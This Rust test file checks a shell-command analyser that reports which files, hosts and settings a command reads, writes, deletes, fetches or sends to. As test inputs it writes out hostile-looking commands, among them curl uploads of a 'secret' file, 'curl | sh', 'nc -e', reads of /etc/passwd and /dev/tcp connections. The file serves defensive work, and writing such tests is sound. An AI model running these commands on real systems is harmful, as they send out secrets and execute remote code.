use proptest::prelude::*;

use super::*;
use crate::processor;

fn shown(word: &Word) -> String {
    match &word.text {
        Some(text) if word.glob => format!("glob {text}"),
        Some(text) => text.clone(),
        None => format!("?{}", word.pattern),
    }
}

fn directory(effects: &Effects, index: usize) -> String {
    let steps = &effects.directories[index].steps;
    let shown = steps.iter().map(|step| {
        let mark = match step.made {
            Made::Surely => "",
            Made::IfPossible => "?",
            Made::Perhaps => "??",
        };
        format!("{}{mark}", self::shown(&step.to))
    });
    shown.collect::<Vec<_>>().join("/")
}

/// One line for each effect but those that every command has.
fn lines(text: &str) -> Vec<String> {
    let read = effects(text);
    let mut lines = Vec::new();
    for effect in &read.effects {
        let mut line = match &effect.kind {
            EffectKind::File(Access::List, _) if effect.program.as_deref() == Some("cd") => {
                continue;
            }
            EffectKind::File(Access::List, _) if effect.program.as_deref() == Some("pushd") => {
                continue;
            }
            EffectKind::File(access, target) => {
                let mut line = format!("{access:?} {}", shown(&target.word));
                if !target.sources.is_empty() {
                    let sources: Vec<String> = target.sources.iter().map(shown).collect();
                    line += &format!(" <- {}", sources.join(" "));
                }
                if target.tree {
                    line += " (tree)";
                }
                line
            }
            EffectKind::Network(endpoint) => {
                format!("{:?} {}", endpoint.usage, endpoint.host.as_deref().unwrap_or("?"))
            }
            EffectKind::Run { .. } => continue,
            EffectKind::Code { language, text } => {
                format!("Code {language:?} {}", text.as_deref().unwrap_or("?").trim())
            }
            EffectKind::Setting { name, value } => format!("Set {name} {}", shown(value)),
            EffectKind::Opaque(unknown) => format!("Opaque {unknown:?}"),
        };
        if !effect.certain {
            line += " perhaps";
        }
        if effect.remote {
            line += " remote";
        }
        let place = directory(&read, effect.directory);
        if !place.is_empty() {
            line = format!("{line} @{place}");
        }
        lines.push(line);
    }
    lines
}

#[track_caller]
fn check(rows: &[(&str, &[&str])]) {
    for (text, expected) in rows {
        assert_eq!(&lines(text), expected, "{text}");
    }
}

#[test]
fn redirections_of_every_kind() {
    check(&[
        ("echo a > f", &["Write f"]),
        ("echo a >| f 2>> g", &["Write f", "Append g"]),
        ("echo a &> f; b 7> g", &["Write f", "Write g"]),
        ("exec 3<> f", &["Read f", "Write f"]),
        ("> f", &["Write f"]),
        ("while a; do b; done >> f", &["Append f"]),
        ("cat < f > /dev/null 2>&1", &["Read f"]),
        ("cat > f <<E\nx\nE\n", &["Write f"]),
        ("x=f; echo > \"$x\".md", &["Write f.md"]),
        ("echo > $unknown", &["Write ?*"]),
        ("echo > f*", &["Write glob f*"]),
        ("echo hi > /dev/tcp/10.0.0.1/80", &["Connect 10.0.0.1"]),
        ("sh -c 'echo > f'", &["Write f"]),
        ("sudo tee f < g", &["Read g", "Write f"]),
    ]);
}

#[test]
fn files_that_programs_name() {
    check(&[
        ("cat a b", &["Read a", "Read b"]),
        ("head -n 3 a", &["Read a"]),
        ("grep -rn pattern src", &["ReadTree src"]),
        ("grep -e x a b", &["Read a", "Read b"]),
        ("sort -o out in", &["Write out", "Read in"]),
        ("uniq in out", &["Read in", "Write out"]),
        ("tee -a f g", &["Append f", "Append g"]),
        ("dd if=a of=b bs=1", &["Read a", "Write b"]),
        ("truncate -s 0 f", &["Write f"]),
        ("touch f", &["Write f"]),
        ("rm -rf a -- -b", &["Delete a", "Delete -b"]),
        ("rm $(ls)", &["List .", "Delete ?*"]),
        ("mkdir -p a/b", &["Write a/b"]),
        ("chmod -R 777 d", &["ChangeMode 777 (tree)", "ChangeMode d (tree)"]),
        ("chmod -w f", &["ChangeMode f"]),
        ("chown root f", &["ChangeOwner root", "ChangeOwner f"]),
        ("sed s/a/b/ f", &["Read f"]),
        ("sed -i s/a/b/ f", &["Write f"]),
        ("sed -i.bak -e s/a/b/ f", &["Write f"]),
        ("sed -ni 1p f", &["Write f"]),
        ("sed --in-place=x -n p f", &["Write f"]),
        ("sed -Ei '' s/a/b/ f", &["Write s/a/b/", "Write f"]),
        ("sed -n 's/a/b/w out' f", &["Write out perhaps", "Read f"]),
        ("awk '{print > \"out\"}' f", &["Write out", "Code Awk {print > \"out\"}", "Read f"]),
        ("jq . f", &["Read f"]),
        ("yq -i '.a=1' f", &["Write f"]),
        ("vim f", &["Write f perhaps"]),
        ("ed f", &["Write f"]),
        ("ls -la d; stat f", &["List d", "List f"]),
        ("cat <(echo a) f", &["Read ?*", "Read f"]),
        ("echo hi", &[]),
        ("./x.sh", &["Read ./x.sh"]),
        ("bash x.sh a", &["Read x.sh"]),
    ]);
}

#[test]
fn files_that_go_elsewhere() {
    check(&[
        ("cp a b", &["Read a", "Write b <- a"]),
        ("cp -t d a b", &["Read a", "Read b", "Write d <- a b"]),
        ("cp -r a d", &["ReadTree a", "Write d <- a", "WriteTree d <- a (tree)"]),
        ("mv a b", &["RenameAway a", "Replace b <- a"]),
        ("mv -f *.md d", &["RenameAway glob *.md", "Replace d <- glob *.md"]),
        ("ln a b", &["HardLink a", "Replace b <- a"]),
        ("ln -s a b", &["Replace b <- a"]),
        ("ln -sf d/a", &["Replace . <- d/a"]),
        ("install -m 644 a b", &["Read a", "Write b <- a"]),
        ("install -d d", &["Write d"]),
        ("rsync -a s/ d", &["ReadTree s/", "WriteTree d <- s/ (tree)", "Write d <- s/"]),
        ("rsync -a s me@h.example:d", &["ReadTree s", "Send h.example"]),
        ("scp h:f .", &["Fetch h", "Write ."]),
        ("tar xf a.tar", &["Read a.tar", "WriteTree . (tree)"]),
        ("tar -xzf a.tgz -C d x/y", &["Read a.tgz", "Write d/x/y"]),
        ("tar czf out.tgz a b", &["Write out.tgz", "ReadTree a", "ReadTree b"]),
        (
            "tar cf a.tar --checkpoint-action=exec='rm x' d",
            &["Delete x", "Write a.tar", "ReadTree d"],
        ),
        ("unzip -o a.zip -d d", &["Read a.zip", "WriteTree d (tree)"]),
        ("unzip -l a.zip", &["Read a.zip"]),
        ("zip -r out.zip d", &["Write out.zip", "ReadTree d"]),
        ("gunzip f.gz", &["Read f.gz", "Delete f.gz", "Write f perhaps"]),
        ("patch f < p", &["Read p", "Write f"]),
        ("patch -p1 -i p", &["Read p", "WriteTree . (tree) perhaps"]),
        (
            "patch -p1 <<'E'\n--- a/x\n+++ b/x\nE\n",
            &["Write a/x", "Write x perhaps", "Write b/x", "Write x perhaps"],
        ),
        (
            "apply_patch <<'E'\n*** Begin Patch\n*** Update File: x\n*** Delete File: y\nE\n",
            &["Write x", "Delete y"],
        ),
    ]);
}

#[test]
fn searches_and_what_they_run() {
    check(&[
        ("find . -name '*.md'", &["List ."]),
        ("find . -name x.md -delete", &["List .", "Delete ./x.md", "Delete glob ./*/x.md"]),
        ("find d -delete", &["List d", "Delete d (tree)"]),
        ("find . -name x -exec rm {} \\;", &["List .", "Delete ./x", "Delete glob ./*/x"]),
        ("find . -fprint out", &["Write out", "List ."]),
        ("echo a b | xargs rm -f", &["Delete a", "Delete b"]),
        ("echo a | xargs -I{} cp {} {}.bak", &["Read a", "Write a.bak <- a"]),
        ("echo a | xargs -I % cp % %.bak", &["Read a", "Write a.bak <- a"]),
        ("echo a | xargs -0I{} mv {} d", &["RenameAway a", "Replace d <- a"]),
        ("echo a | xargs -rI {} mv {} d", &["RenameAway a", "Replace d <- a"]),
        ("echo a | xargs --replace rm {}", &["Delete a"]),
        ("echo a | xargs --repl=@ rm @", &["Delete a"]),
        ("echo a | xargs -i rm {}", &["Delete a"]),
        ("ls x | xargs -I{} cp x/{} d", &["List x", "Read ?x/*", "Write d <- ?x/*"]),
        ("ls x | xargs -I $m cp x/% d", &["List x", "Opaque Program"]),
        (
            "parallel cp {} d ::: a",
            &[
                "Read ?*",
                "Read d",
                "Read :::",
                "Read a",
                "Write ?* <- ?* d ::: a",
                "Read ?*",
                "Write d <- ?*",
            ],
        ),
        ("ls | xargs rm", &["List .", "Delete ?*"]),
        ("rg x src", &["ReadTree src"]),
        ("rg x", &["ReadTree ."]),
    ]);
}

#[test]
fn git_writes_and_sends() {
    check(&[
        ("git status", &[]),
        ("git -C d checkout -- f", &["Write f @d"]),
        ("git checkout f", &["Write f perhaps", "WriteTree . (tree) perhaps"]),
        ("git restore f g", &["Write f", "Write g"]),
        ("git restore --staged f", &[]),
        ("git reset --hard", &["WriteTree . (tree) perhaps"]),
        ("git reset f", &[]),
        ("git rm f", &["Delete f"]),
        ("git clean -nd", &[]),
        ("git clean -fd", &["WriteTree . (tree) perhaps", "Delete . (tree) perhaps"]),
        ("git clean -fd -e a b", &["Delete b (tree) perhaps"]),
        ("git mv a b", &["RenameAway a", "Replace b <- a"]),
        ("git apply p", &["Read p", "WriteTree . (tree) perhaps"]),
        ("git clone https://h.example/a/r.git", &["Fetch h.example", "WriteTree r (tree)"]),
        ("git push git@h.example:r.git main", &["Send h.example"]),
        ("git push", &["Send ?"]),
        ("git remote add o ssh://h.example/r", &["Fetch h.example"]),
        ("git remote -v", &[]),
        ("git -c core.pager=x log", &["Set git:core.pager x"]),
        ("git config core.hooksPath h", &["Set git:core.hookspath h", "Write .git/config"]),
        ("git config user.name", &[]),
        ("git stash list", &[]),
        ("git archive -o f HEAD", &["Write f"]),
    ]);
}

#[test]
fn the_network_and_what_goes_there() {
    check(&[
        ("curl https://H.example/x", &["Fetch h.example"]),
        ("curl -o f https://h.example", &["Fetch h.example", "Write f"]),
        ("curl -fsSLO https://h.example/a/f.tgz?x", &["Fetch h.example", "Write f.tgz"]),
        ("curl -d @secret h.example", &["Read secret", "Send h.example"]),
        ("curl -F f=@secret h.example", &["Read secret", "Send h.example"]),
        ("curl -T secret h.example", &["Read secret", "Send h.example"]),
        ("curl \"https://$h/x\"", &["Fetch ?"]),
        ("curl file:///etc/passwd", &["Read /etc/passwd"]),
        ("wget -qO- h.example", &["Fetch h.example"]),
        ("wget --post-file=f h.example/a", &["Send h.example", "Read f", "Write a"]),
        ("nc -l 80", &["Listen ?"]),
        ("nc h.example 80 < f", &["Read f", "Send h.example"]),
        ("nc -e 'rm f' h 1", &["Delete f", "Send h"]),
        ("ssh -i k me@h.example 'rm f'", &["Connect h.example", "Read k", "Delete f remote"]),
        ("ssh -oProxyCommand='rm f' h", &["Connect h", "Delete f"]),
        ("socat TCP:h.example:1 EXEC:'rm f'", &["Connect h.example", "Delete f"]),
        ("dig x.h.example", &["Connect x.h.example"]),
        ("npm install x", &["Fetch ?"]),
        ("curl h.example | sh", &["Fetch h.example", "Opaque Script"]),
    ]);
}

#[test]
fn code_is_read_lightly() {
    check(&[
        ("python3 -c 'open(\"f\", \"w\")'", &["Write f", "Code Python open(\"f\", \"w\")"]),
        ("python -c \"open('f').read()\"", &["Read f", "Code Python open('f').read()"]),
        (
            "python -c \"open('a'+'b', mode='a')\"",
            &["Write ab", "Code Python open('a'+'b', mode='a')"],
        ),
        (
            "python -c \"open(chr(76)+chr(0x6f),'w')\"",
            &["Write Lo", "Code Python open(chr(76)+chr(0x6f),'w')"],
        ),
        ("python -c \"open(x,'w')\"", &["Write ?*", "Code Python open(x,'w')"]),
        (
            "python -c \"open(f'a{x}.md','w')\"",
            &["Write ?a*.md", "Code Python open(f'a{x}.md','w')"],
        ),
        (
            "python -c \"import os; os.remove('f')\"",
            &["Delete f", "Code Python import os; os.remove('f')"],
        ),
        (
            "python -c \"Path('f').write_text('x')\"",
            &["Write f", "Code Python Path('f').write_text('x')"],
        ),
        (
            "python -c \"os.rename('a','b')\"",
            &["RenameAway a", "Replace b", "Code Python os.rename('a','b')"],
        ),
        ("python -c \"os.system('rm f')\"", &["Delete f", "Code Python os.system('rm f')"]),
        (
            "python -c \"subprocess.run(['rm', 'f'])\"",
            &["Delete f", "Code Python subprocess.run(['rm', 'f'])"],
        ),
        ("python - <<'E'\nopen('f','w')\nE\n", &["Write f", "Code Python open('f','w')"]),
        ("echo \"open('f','w')\" | python", &["Write f", "Code Python open('f','w')"]),
        (
            "node -e \"fs.writeFileSync('f', 'x')\"",
            &["Write f", "Code JavaScript fs.writeFileSync('f', 'x')"],
        ),
        ("node -p \"fs.readFileSync('f')\"", &["Read f", "Code JavaScript fs.readFileSync('f')"]),
        ("node -e \"fs.unlinkSync(x)\"", &["Delete ?*", "Code JavaScript fs.unlinkSync(x)"]),
        ("perl -i -pe 's/a/b/' f", &["Code Perl s/a/b/", "Write f"]),
        ("perl -pi.bak -e 's/a/b/' f", &["Code Perl s/a/b/", "Write f"]),
        ("perl -ne 'print' f", &["Code Perl print", "Read f perhaps"]),
        ("perl -e 'open(F, \">f\")'", &["Write f", "Code Perl open(F, \">f\")"]),
        ("perl -e 'unlink \"f\"'", &["Delete f", "Code Perl unlink \"f\""]),
        ("ruby -e 'File.write(\"f\", 1)'", &["Write f", "Code Ruby File.write(\"f\", 1)"]),
        (
            "php -r 'file_put_contents(\"f\", 1);'",
            &["Write f", "Code Php file_put_contents(\"f\", 1);"],
        ),
        ("perl -e '`rm f`'", &["Delete f", "Code Perl `rm f`"]),
        ("awk 'BEGIN{system(\"rm f\")}'", &["Delete f", "Code Awk BEGIN{system(\"rm f\")}"]),
        ("python x.py a", &["Read x.py"]),
        ("python -c \"$code\"", &["Code Python ?"]),
        ("sh -c \"$code\"", &["Opaque Script"]),
        ("$x f", &["Opaque Program"]),
    ]);
}

#[test]
fn directories_are_followed() {
    check(&[
        ("cd d && touch f", &["Write f @d"]),
        ("cd d; touch f", &["Write f @d?"]),
        ("cd d && a; touch f", &["Write f @d?"]),
        ("cd a && cd b && touch f", &["Write f @a/b"]),
        ("(cd d && touch f); touch g", &["Write f @d", "Write g"]),
        ("cd d & touch f", &["Write f"]),
        ("cd d | touch f", &["Write f"]),
        ("true | cd d; touch f", &["Write f @d??"]),
        ("if a; then cd d; fi; touch f", &["Write f @d??"]),
        ("f() { cd d; }; touch x", &["Write x @d??"]),
        ("sh -c 'cd d && touch f'; touch g", &["Write f @d", "Write g"]),
        ("cd a; sh -c 'touch f'", &["Write f @a?"]),
        ("eval 'cd d' && touch f", &["Write f @d"]),
        ("cd \"$x\" && touch f", &["Write f @?*"]),
        ("cd && touch f", &["Write f @~"]),
        ("cd a && cd - && touch f", &["Write f"]),
        ("pushd a && popd && touch f", &["Write f"]),
        ("popd && touch f", &["Write f @?*??"]),
        ("env -C d touch f", &["Write f @d"]),
        ("sudo -D d touch f", &["Write f @d"]),
        ("builtin cd d && touch f", &["Write f @d"]),
        ("echo $(cd d && touch f) > g", &["Write f @d", "Write g"]),
        ("tar cf o -C d x", &["Write o", "ReadTree x @d"]),
    ]);
}

#[test]
fn settings_that_tell() {
    check(&[
        ("PATH=/x ls", &["Set PATH /x", "List ."]),
        ("LD_PRELOAD=./a.so b", &["Set LD_PRELOAD ./a.so"]),
        ("x=1 ls", &["List ."]),
        ("export NODE_OPTIONS=--require=./a", &["Set NODE_OPTIONS --require=./a"]),
        ("env GIT_SSH_COMMAND=x git status", &["Set GIT_SSH_COMMAND x"]),
        ("WARDKEEP_STATE_DIR=/tmp wardkeep status", &["Set WARDKEEP_STATE_DIR /tmp"]),
        ("https_proxy=h curl x.example", &["Set https_proxy h", "Fetch x.example"]),
        ("crontab f", &["Set schedule:crontab f", "Read f"]),
    ]);
}

#[test]
fn what_is_only_mentioned() {
    let mentioned = |text: &str| -> Vec<String> {
        effects(text).mentions.iter().map(|mention| shown(&mention.word)).collect()
    };
    assert_eq!(mentioned("mytool --file=SOUL.md x/SOUL.md"), ["SOUL.md", "x/SOUL.md"]);
    assert_eq!(mentioned("cat SOUL.md"), [""; 0]);
    assert_eq!(mentioned("git commit -m 'change SOUL.md, really'"), ["SOUL.md"]);
    assert_eq!(mentioned("cat > x <<E\nsee SOUL.md\nE\n"), ["SOUL.md"]);
    assert_eq!(mentioned("python -c 'f(\"SOUL.md\")'"), ["SOUL.md"]);
    assert_eq!(mentioned("python -c 'open(\"SOUL.md\")'"), [""; 0]);
    assert_eq!(mentioned("sh -c 'cat SOUL.md'"), [""; 0]);
    assert_eq!(mentioned("mytool SO*.md $x $y/a.md"), ["glob SO*.md", "?*/a.md"]);
    assert_eq!(mentioned("f 'unclosed SOUL.md"), ["SOUL.md", "SOUL.md"]);
    assert!(!effects("f 'unclosed").complete);
}

#[test]
fn spans_point_to_the_command() {
    let text = "ls; sh -c 'rm f' && x";
    let read = effects(text);
    let delete = read.files().find(|(_, access, _)| *access == Access::Delete).unwrap().0;
    assert_eq!(&text[delete.span.start..delete.span.end], "sh -c 'rm f'");
}

#[test]
fn hostile_sizes_are_bounded() {
    let start = processor::time();
    for unit in [
        "cd a;",
        "cd a&&",
        "(cd a;",
        "pushd a;",
        "cp a b;",
        "rm a ",
        "find . -name a ",
        "python -c 'open(open(open(",
        "python -c '((((((((",
        "sed -e 'w a",
        "git -C a ",
        "a=b ",
        "echo a|xargs rm;",
        "env -C a ",
        "os.system('os.system(",
        "perl -e '`",
        "tar x ",
        "curl -o a ",
        "awk '\"a\"|",
        "sh -c 'sh -c ",
        "> a ",
        "*/",
    ] {
        let text = unit.repeat((1 << 18) / unit.len());
        let read = effects(&text);
        assert!(read.effects.len() <= MAX_EFFECTS + 1, "{unit}");
        assert!(read.directories.len() <= 1024, "{unit}");
    }
    let took = processor::time() - start;
    assert!(took.as_secs() < 60, "{took:?}");
}

proptest! {
    #[test]
    fn nothing_panics(text in "\\PC{0,120}") {
        let _ = effects(&text);
    }

    #[test]
    fn commands_made_of_pieces_do_not_panic(
        parts in proptest::collection::vec(proptest::sample::select(vec![
            "cp ", "mv ", "rm ", "cd ", "sed -i ", "tar ", "xf ", "git ", "checkout ", "-C ", "python -c ",
            "'open(\"", "\", \"w\")' ", "curl ", "-o ", "@", "find ", "-exec ", "{} ", "; ", "&& ", "| ", "( ",
            ") ", "$(", "$x ", "> ", "<<E\n", "E\n", "a ", "-", "-- ", "/", ".", "*", "\"", "'", "xargs ",
            "env ", "sudo ", "=", "f", "perl -pie ", "awk ", "dd of=", "ssh ", "h:p ", "chr(", "`", "ü",
        ]), 0..30)
    ) {
        let text = parts.concat();
        let read = effects(&text);
        for effect in &read.effects {
            prop_assert!(effect.directory < read.directories.len());
            prop_assert!(text.get(effect.span.start..effect.span.end).is_some());
        }
    }
}
